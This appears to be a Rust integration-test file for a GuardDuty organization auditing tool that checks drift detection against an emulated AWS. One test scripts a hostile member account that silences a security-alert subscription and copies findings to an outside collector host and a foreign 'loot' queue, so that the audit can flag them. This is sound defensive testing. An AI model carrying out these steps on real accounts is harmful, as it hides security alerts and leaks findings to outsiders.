//! `orgguard audit` and `orgguard report` on the emulator: read-only, exit codes that a
//! scheduler can act on, and each kind of drift failing exactly its control.

mod common;

use std::collections::BTreeSet;

use common::*;
use serde_json::{json, Value};

const REGIONS_ARG: &str = "us-east-1,eu-west-1";

fn example_plan() -> String {
    path_str(&root().join("plans/example.toml")).to_owned()
}

fn audit(emulator: &Emulator, extra: &[&str]) -> (i32, Value) {
    let plan = example_plan();
    let mut args = vec!["audit", "--plan", plan.as_str(), "--regions", REGIONS_ARG, "--format", "json"];
    args.extend_from_slice(extra);
    let run = emulator.orgguard(&args);
    let report: Value = serde_json::from_str(&run.stdout()).unwrap_or_else(|e| panic!("{e}: {}\n{}", run.stdout(), run.stderr()));
    (run.code(), report)
}

/// (control, account, region) of every result with this verdict.
fn with_verdict(report: &Value, verdict: &str) -> BTreeSet<(String, String, String)> {
    report["results"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["verdict"] == verdict)
        .map(|r| {
            let region = r["region"].as_str().unwrap_or("global").to_owned();
            (r["control"].as_str().unwrap().to_owned(), r["account"].as_str().unwrap().to_owned(), region)
        })
        .collect()
}

fn rollout(emulator: &Emulator) {
    let plan = example_plan();
    let run = emulator.orgguard(&["rollout", "--plan", &plan, "--regions", REGIONS_ARG]);
    assert_eq!(run.code(), 0, "{}", run.stderr());
}

#[test]
fn a_compliant_organization_passes_every_control_with_zero_mutating_calls() {
    let emulator = Emulator::start(&["--accounts", "4"]);
    rollout(&emulator);
    emulator.reset_counts();
    let (code, report) = audit(&emulator, &[]);
    assert_eq!(code, 0);
    assert_eq!(emulator.mutating_calls(), 0, "audit is read-only");
    assert!(with_verdict(&report, "FAIL").is_empty() && with_verdict(&report, "NOT_EVALUATED").is_empty());
    let controls: BTreeSet<&str> = report["results"].as_array().unwrap().iter().map(|r| r["control"].as_str().unwrap()).collect();
    for control in ["GuardDuty.1", "GuardDuty.5", "GuardDuty.8", "GuardDuty.10", "OG.Org.DelegatedAdmin", "OG.Org.Member", "OG.Wiring.Role"] {
        assert!(controls.contains(control), "{control} judged");
    }
    // 5 accounts x 2 regions x 12 regional controls (detector 5, wiring 7) + 5 x 2 IAM + 2 regions x (admin, auto-enable) + 4 members x 2 regions
    assert_eq!(report["results"].as_array().unwrap().len(), 5 * 2 * 12 + 5 * 2 + 2 * 2 + 4 * 2);
}

#[test]
fn each_kind_of_drift_fails_exactly_its_control_where_it_was_made() {
    let emulator = Emulator::start(&["--accounts", "4"]);
    rollout(&emulator);
    let (code, baseline) = audit(&emulator, &[]);
    assert_eq!(code, 0);
    let (a1, a2, a3, a4) = (member(1), member(2), member(3), member(4));
    for action in [
        json!({"action": "disable_rule", "account": a2, "region": "us-east-1", "rule": "guardduty-finding"}),
        json!({"action": "remove_target", "account": a2, "region": "eu-west-1", "rule": "gdu-finding-archive-api", "target_id": "guardduty-archive-notification"}),
        json!({"action": "set_topic_policy", "account": a3, "region": "us-east-1", "topic": "guardduty-finding", "policy": {"Version": "2012-10-17", "Statement": []}}),
        json!({"action": "delete_subscription", "account": a3, "region": "eu-west-1", "topic": "guardduty-finding", "endpoint": "security-alerts@example.com"}),
        json!({"action": "feature_off", "account": a4, "region": "us-east-1", "feature": "S3_DATA_EVENTS"}),
        json!({"action": "disassociate_member", "account": a1, "region": "eu-west-1", "member": a4}),
        json!({"action": "set_policy_document", "account": a4, "policy": "EventBridgePublishGuarddutyFinding",
               "document": {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "sns:Publish", "Resource": "*"}]}}),
    ] {
        emulator.post("drift", action);
    }
    emulator.reset_counts();
    let dir = tempfile::tempdir().unwrap();
    let baseline_path = dir.path().join("baseline.json");
    std::fs::write(&baseline_path, baseline.to_string()).unwrap();
    let (code, report) = audit(&emulator, &["--baseline", path_str(&baseline_path)]);
    assert_eq!(code, 2, "drift found");
    assert_eq!(emulator.mutating_calls(), 0);
    let t = |c: &str, a: &str, r: &str| (c.to_owned(), a.to_owned(), r.to_owned());
    let expected: BTreeSet<_> = [
        t("OG.Wiring.Rule/guardduty-finding", &a2, "us-east-1"),
        t("OG.Wiring.Target/gdu-finding-archive-api", &a2, "eu-west-1"),
        t("OG.Wiring.TopicPolicy", &a3, "us-east-1"),
        t("OG.Wiring.Subscriptions", &a3, "eu-west-1"),
        t("GuardDuty.10", &a4, "us-east-1"),
        t("OG.Org.Member", &a4, "eu-west-1"),
        t("OG.Wiring.Policy", &a4, "global"),
    ]
    .into_iter()
    .collect();
    assert_eq!(with_verdict(&report, "FAIL"), expected);
    assert_eq!(report["baseline"]["new_failures"].as_array().unwrap().len(), 7);
    assert!(report["baseline"]["resolved"].as_array().unwrap().is_empty());
}

#[test]
fn a_denied_role_leaves_the_wiring_not_evaluated_and_the_detector_judged_by_the_admin() {
    let emulator = Emulator::start(&["--accounts", "3", "--role-missing", "2"]);
    let plan = example_plan();
    emulator.orgguard(&["rollout", "--plan", &plan, "--regions", REGIONS_ARG]);
    let (code, report) = audit(&emulator, &[]);
    assert_eq!(code, 1, "the audit could not read every account");
    let denied = member(2);
    let of_denied = |verdict| {
        with_verdict(&report, verdict).into_iter().filter(|(_, a, _)| *a == denied).map(|(c, _, r)| (c, r)).collect::<BTreeSet<_>>()
    };
    // The admin added it as a member, which enabled GuardDuty there with the organization's features.
    let judged: BTreeSet<_> = ["GuardDuty.1", "OG.Detector.Frequency", "GuardDuty.5", "GuardDuty.8", "GuardDuty.10", "OG.Org.Member"]
        .iter()
        .flat_map(|c| ["eu-west-1", "us-east-1"].map(|r| (c.to_string(), r.to_owned())))
        .collect();
    assert_eq!(of_denied("PASS"), judged, "what the admin sees is judged");
    let unread = of_denied("NOT_EVALUATED");
    assert_eq!(unread.len(), 2 * 7 + 2, "the wiring of both regions and the IAM controls: {unread:?}");
    assert!(unread.iter().all(|(c, _)| c.starts_with("OG.Wiring.")), "{unread:?}");
    let reasons: BTreeSet<&str> = report["results"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["account"] == denied.as_str() && r["verdict"] == "NOT_EVALUATED")
        .map(|r| r["reason"].as_str().unwrap())
        .collect();
    assert_eq!(reasons, BTreeSet::from(["sts:AssumeRole: AccessDenied"]));
}

#[test]
fn without_wiring_the_audit_reads_detectors_from_the_admin_and_enters_no_member_account() {
    let emulator = Emulator::start(&["--accounts", "60"]);
    let (_dir, plan) = plan_file(&format!("{THREE_REGION_PLAN}\n[admin]\naccount = \"{}\"\nauto_enable = \"ALL\"\n", member(1)));
    let rollout = emulator.orgguard(&["rollout", "--plan", path_str(&plan)]);
    assert_eq!(rollout.code(), 0, "{}", rollout.stderr());
    emulator.post("drift", json!({"action": "feature_off", "account": member(7), "region": "eu-west-1", "feature": "S3_DATA_EVENTS"}));
    emulator.reset_counts();
    let run = emulator.orgguard(&["audit", "--plan", path_str(&plan), "--format", "json"]);
    assert_eq!(run.code(), 2, "{}", run.stderr());
    let report: Value = serde_json::from_str(&run.stdout()).unwrap();
    let failing = with_verdict(&report, "FAIL");
    assert_eq!(failing, BTreeSet::from([("GuardDuty.10".to_owned(), member(7), "eu-west-1".to_owned())]));
    assert_eq!(emulator.calls("AssumeRole", None), 1, "only the admin's role is assumed");
    let in_members: u64 = (2..=60).flat_map(|i| REGIONS.map(|r| emulator.calls("ListDetectors", Some((&member(i), r))))).sum();
    assert_eq!(in_members, 0, "no member account is entered");
    // 59 members and the management account: two GetMemberDetectors calls of at most 50 per region.
    assert_eq!(emulator.calls("GetMemberDetectors", None), 3 * 2);
    let passing = with_verdict(&report, "PASS");
    assert!(passing.contains(&("GuardDuty.1".to_owned(), member(60), "ap-northeast-1".to_owned())));
    assert!(passing.contains(&("GuardDuty.1".to_owned(), MANAGEMENT.to_owned(), "us-east-1".to_owned())));
}

#[test]
fn report_writes_every_format_from_a_saved_audit_without_calling_aws() {
    let emulator = Emulator::start(&["--accounts", "2"]);
    rollout(&emulator);
    let (_, saved) = audit(&emulator, &[]);
    let dir = tempfile::tempdir().unwrap();
    let saved_path = dir.path().join("audit.json");
    std::fs::write(&saved_path, saved.to_string()).unwrap();
    let out = dir.path().join("out");
    // No endpoint: a call to AWS would fail for want of credentials and network.
    let run = orgguard(&["report", "--from", path_str(&saved_path), "--format", "json,ocsf,csv,junit,html", "--out", path_str(&out)], None);
    assert_eq!(run.code(), 0, "{}", run.stderr());
    let json: Value = serde_json::from_str(&std::fs::read_to_string(out.join("orgguard-audit.json")).unwrap()).unwrap();
    assert_eq!(json["results"], saved["results"]);
    let csv = std::fs::read_to_string(out.join("orgguard-audit.csv")).unwrap();
    assert_eq!(csv.lines().count(), 1 + saved["results"].as_array().unwrap().len());
    let junit = std::fs::read_to_string(out.join("orgguard-audit.junit.xml")).unwrap();
    assert_eq!(junit.matches("<testcase ").count(), saved["results"].as_array().unwrap().len());
    let ocsf: Vec<Value> = serde_json::from_str(&std::fs::read_to_string(out.join("orgguard-audit.ocsf.json")).unwrap()).unwrap();
    assert!(ocsf.iter().all(|r| r["class_uid"] == 2003));
    // Names people know, from ListAccounts (the emulator names its members member-00001, ...).
    assert_eq!(saved["account_names"][member(2)], "member-00002", "{}", saved["account_names"]);
    let named = ocsf.iter().find(|r| r["cloud"]["account"]["uid"] == member(2)).unwrap();
    assert_eq!(named["cloud"]["account"]["name"], "member-00002");
    let row = csv.lines().find(|l| l.contains(&member(2))).unwrap();
    assert_eq!(row.split(',').nth(2), Some("member-00002"), "account_name is the third column: {row}");
    let html = std::fs::read_to_string(out.join("orgguard-audit.html")).unwrap();
    assert!(html.contains(r#""names":["#) && html.contains("member-00002"), "the matrix names its accounts");
}

#[test]
fn a_member_that_silences_or_copies_its_findings_fails_the_audit() {
    let emulator = Emulator::start(&["--accounts", "2"]);
    rollout(&emulator);
    let hostile = member(2);
    let topic = format!("arn:aws:sns:eu-west-1:{hostile}:guardduty-finding");
    // Through the public API, as the member's own script would: a filter policy that silences
    // the planned subscription, a subscription to an outside host, and a second target on the
    // findings rule pointing at a queue outside the organization.
    emulator.boto3_as(
        &hostile,
        &format!(
            r#"
sns = client("sns", "eu-west-1")
planned = next(s for s in sns.list_subscriptions_by_topic(TopicArn="{topic}")["Subscriptions"] if s["Protocol"] == "email")
sns.set_subscription_attributes(SubscriptionArn=planned["SubscriptionArn"], AttributeName="FilterPolicy", AttributeValue='{{"never": ["matches"]}}')
sns.subscribe(TopicArn="{topic}", Protocol="https", Endpoint="https://collector.example.net/in")
client("events", "eu-west-1").put_targets(Rule="guardduty-finding", Targets=[{{"Id": "copy", "Arn": "arn:aws:sqs:eu-west-1:999999999999:loot"}}])
"#
        ),
    );
    let (code, report) = audit(&emulator, &[]);
    assert_eq!(code, 2, "drift: {report}");
    let failed: Vec<(&str, &str)> = report["results"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["verdict"] == "FAIL")
        .map(|r| (r["control"].as_str().unwrap(), r["actual"].as_str().unwrap()))
        .collect();
    assert_eq!(
        failed,
        [
            ("OG.Wiring.Subscriptions", r#"filter policy {"never": ["matches"]}; https:https://collector.example.net/in subscribed"#),
            ("OG.Wiring.Target/guardduty-finding", "also copy -> arn:aws:sqs:eu-west-1:999999999999:loot"),
        ],
        "exactly the silenced subscription and the two ways out, in {hostile}/eu-west-1"
    );
    assert!(report["results"].as_array().unwrap().iter().filter(|r| r["verdict"] == "FAIL").all(|r| r["account"] == hostile.as_str() && r["region"] == "eu-west-1"));
}

#[test]
fn a_planned_subscription_left_pending_confirmation_fails_the_audit() {
    let emulator = Emulator::start(&["--accounts", "2"]);
    rollout(&emulator);
    let hostile = member(1);
    let topic = format!("arn:aws:sns:us-east-1:{hostile}:guardduty-finding");
    // The member unsubscribes the planned address and subscribes it again: AWS mails a new
    // confirmation link, which nobody at that address answers.
    emulator.post("drift", json!({"action": "silent_recipient", "endpoint": "security-alerts@example.com"}));
    emulator.boto3_as(
        &hostile,
        &format!(
            r#"
sns = client("sns", "us-east-1")
planned = next(s for s in sns.list_subscriptions_by_topic(TopicArn="{topic}")["Subscriptions"] if s["Protocol"] == "email")
sns.unsubscribe(SubscriptionArn=planned["SubscriptionArn"])
sns.subscribe(TopicArn="{topic}", Protocol="email", Endpoint="security-alerts@example.com")
again = sns.list_subscriptions_by_topic(TopicArn="{topic}")["Subscriptions"]
assert [s["SubscriptionArn"] for s in again] == ["PendingConfirmation"], again
"#
        ),
    );
    let subscriptions = &emulator.get("wiring")["topics"][&hostile]["us-east-1"]["guardduty-finding"]["subscriptions"];
    assert_eq!(subscriptions[0]["pending"], true, "{subscriptions}");
    emulator.reset_counts();
    let (code, report) = audit(&emulator, &[]);
    assert_eq!(code, 2, "drift: {report}");
    assert_eq!(emulator.mutating_calls(), 0);
    let failed: Vec<_> = report["results"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["verdict"] == "FAIL")
        .map(|r| (r["control"].as_str().unwrap(), r["account"].as_str().unwrap(), r["region"].as_str().unwrap(), r["actual"].as_str().unwrap()))
        .collect();
    assert_eq!(failed, [("OG.Wiring.Subscriptions", hostile.as_str(), "us-east-1", "pending confirmation")]);
    // A rollout has nothing to change: subscribing again would only mail the link once more.
    let plan = example_plan();
    let run = emulator.orgguard(&["rollout", "--plan", &plan, "--regions", REGIONS_ARG]);
    assert_eq!((run.code(), emulator.mutating_calls()), (0, 0), "{}", run.stderr());
}
